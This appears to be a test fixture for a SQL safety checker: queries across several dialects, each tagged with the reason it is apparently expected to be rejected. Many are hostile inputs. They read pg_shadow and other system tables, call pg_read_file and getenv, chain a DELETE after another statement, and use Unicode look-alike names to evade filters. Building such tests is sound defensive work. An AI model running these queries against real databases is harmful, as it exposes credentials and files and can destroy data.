LOAD DATA INTO d.t FROM FILES (format = 'CSV', uris = ['gs://x'])

## bigquery statement
EXECUTE IMMEDIATE 'SELECT 1'

## bigquery statement
CALL d.proc()

## bigquery statement
ASSERT (SELECT true)

## bigquery table
SELECT * FROM d.INFORMATION_SCHEMA.TABLES

## bigquery table
SELECT * FROM `region-us`.INFORMATION_SCHEMA.JOBS_BY_PROJECT

## bigquery table
SELECT * FROM `p.d.INFORMATION_SCHEMA.COLUMNS`

## bigquery table
SELECT * FROM d.information_schema.tables

## bigquery table
SELECT * FROM d.__TABLES__

## bigquery table
SELECT * FROM `d.events_*`

## bigquery table
SELECT * FROM `gs://bucket/x`

## bigquery unreadable
SELECT * FROM [project:dataset.table]

## postgres,duckdb,mysql,trino unreadable
(DELETE FROM customers)

## postgres,duckdb statement
VALUES (1); DELETE FROM customers

## postgres,duckdb,mysql,trino,bigquery function
SELECT evil()

## postgres,duckdb,mysql,trino,bigquery function
SELECT 1 WHERE evil() = 1

## postgres,duckdb,mysql,trino,bigquery function
SELECT (SELECT (SELECT (SELECT evil())))

## postgres,duckdb,mysql,trino,bigquery function
SELECT * FROM evil()

## postgres,duckdb,mysql,trino,bigquery function
SELECT * FROM customers LEFT JOIN evil() AS e ON 1 = 1

## postgres,duckdb,mysql,trino,bigquery function
SELECT ｅｖｉｌ()

## postgres,duckdb,trino part
SELECT * FROM ""

## postgres,duckdb,trino part
SELECT 1 AS ""

## duckdb part
SELECT show(name) FROM customers

## postgres part
SELECT overlaps(name) FROM customers

## postgres,duckdb,mysql,trino,bigquery table
SELECT * FROM a.b.c.d

## duckdb table
SELECT * FROM a.b.c.d.csv

## bigquery table
SELECT * FROM `a.b.c.d`

## postgres,duckdb,trino table
SELECT * FROM "a"."b"."information_schema"."tables"

## mysql table
SELECT * FROM İnformation_schema.tables

## mysql table
SELECT * FROM ınformation_schema.tables

## mysql table
SELECT * FROM myſql.user

## trino table
SELECT * FROM ＳＹＳＴＥＭ.runtime.queries

## trino function
SELECT * FROM TABLE(customers)

## trino function
SELECT * FROM TABLE(sequence(1, 2), sequence(1, 2))

## trino function
SELECT * FROM TABLE(sequence(1, TABLE(customers)))

## postgres table
SELECT * FROM (pg_shadow)

## postgres table
SELECT * FROM ((pg_shadow JOIN customers ON true))

## postgres table
SELECT * FROM customers WHERE id IN (TABLE pg_shadow)

## postgres table
SELECT 1 UNION TABLE pg_shadow

## duckdb table
SELECT * FROM (PIVOT (SELECT * FROM 'x.csv') ON a USING sum(b))

## duckdb function
SELECT * FROM customers AT (TIMESTAMP => getenv('HOME'))

## duckdb function
SELECT * FROM IDENTIFIER('pg_shadow')


## postgres attribute
SELECT row_to_json(c) AS j FROM customers c

## postgres attribute
SELECT customers.record_out FROM customers

## postgres attribute
SELECT c.record_send FROM customers c

## postgres attribute
SELECT c.pg_typeof, c.pg_column_size FROM customers AS c

## postgres attribute
SELECT public.customers.record_out FROM public.customers

## postgres attribute
SELECT (c).evil FROM customers c

## postgres attribute
SELECT (c).id FROM customers c

## postgres attribute
SELECT (c.*).evil FROM customers c

## postgres attribute
SELECT ((c)).evil FROM customers c

## postgres attribute
SELECT (c).evil.more FROM customers c

## postgres attribute
SELECT (c.tags[1]).evil FROM customers c

## postgres attribute
SELECT c.tags[1].evil FROM customers c

## postgres attribute
SELECT (ARRAY[1])[1].evil

## postgres attribute
SELECT ('pg_sleep'::text).evil

## postgres attribute
SELECT (10).pg_sleep

## postgres attribute
SELECT (now()).evil

## postgres attribute
SELECT (SELECT c FROM customers c).evil

## postgres attribute
SELECT (SELECT 10).pg_sleep

## postgres attribute
SELECT (CASE WHEN true THEN 10 END).pg_sleep

## postgres attribute
SELECT (ROW(1, 2)).evil

## postgres attribute
SELECT (COALESCE('a')).pg_read_file

## postgres attribute
SELECT a.b.c.d.e FROM customers

## postgres attribute
SELECT postgres.public.customers.evil FROM public.customers

## postgres attribute
SELECT c FROM customers c

## postgres attribute
SELECT abs(c) FROM customers c

## postgres attribute
SELECT abs(c.*) FROM customers c

## postgres attribute
SELECT ROW(c.*) FROM customers c

## postgres attribute
SELECT count(c) FROM customers c

## postgres attribute
SELECT json_agg(customers) FROM customers

## postgres attribute
SELECT (c = c) FROM customers c

## postgres attribute
SELECT c || '' FROM customers c

## postgres attribute
SELECT CAST(c AS TEXT) FROM customers c

## postgres attribute
SELECT c::text FROM customers c

## postgres attribute
SELECT id FROM customers c ORDER BY c

## postgres attribute
SELECT id FROM customers c WHERE c IS NOT NULL

## postgres attribute
SELECT q.evil FROM (SELECT id FROM customers) AS q

## postgres attribute
WITH q AS (SELECT id FROM customers) SELECT q.evil FROM q

## postgres attribute
WITH q AS (SELECT id FROM customers) SELECT x.evil FROM q AS x

## postgres attribute
SELECT (SELECT q.evil) FROM (SELECT 1 AS id) AS q

## postgres attribute
SELECT x.y FROM (SELECT 1 AS id) AS q, LATERAL (SELECT q.evil AS y) AS x

## postgres attribute
SELECT id FROM (SELECT 1 AS id) AS q ORDER BY q.evil

## postgres attribute
SELECT sum(q.evil) OVER (PARTITION BY q.id) FROM (SELECT 1 AS id) AS q

## postgres attribute
SELECT max(q.id) FILTER (WHERE q.evil) FROM (SELECT 1 AS id) AS q

## postgres attribute
SELECT 1 FROM (SELECT 1 AS id) AS q JOIN (SELECT 1 AS id) AS r ON q.evil = r.id

## postgres attribute
SELECT e FROM jsonb_each('{}') AS e

## postgres attribute
SELECT e.record_out FROM jsonb_each('{}') AS e

## postgres attribute
SELECT (e).evil FROM jsonb_each('{}') AS e

## postgres part
SELECT "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx" FROM customers

## postgres attribute
SELECT * FROM (SELECT CAST(c AS TEXT) FROM customers c) AS q

## postgres attribute
WITH q AS (SELECT c FROM customers c) SELECT * FROM q

## postgres attribute
WITH q AS (WITH q AS (SELECT id FROM customers) SELECT q.evil FROM q) SELECT * FROM q

## postgres attribute
SELECT q.id FROM customers c, LATERAL (SELECT abs(c) AS c, 1 AS id) AS q
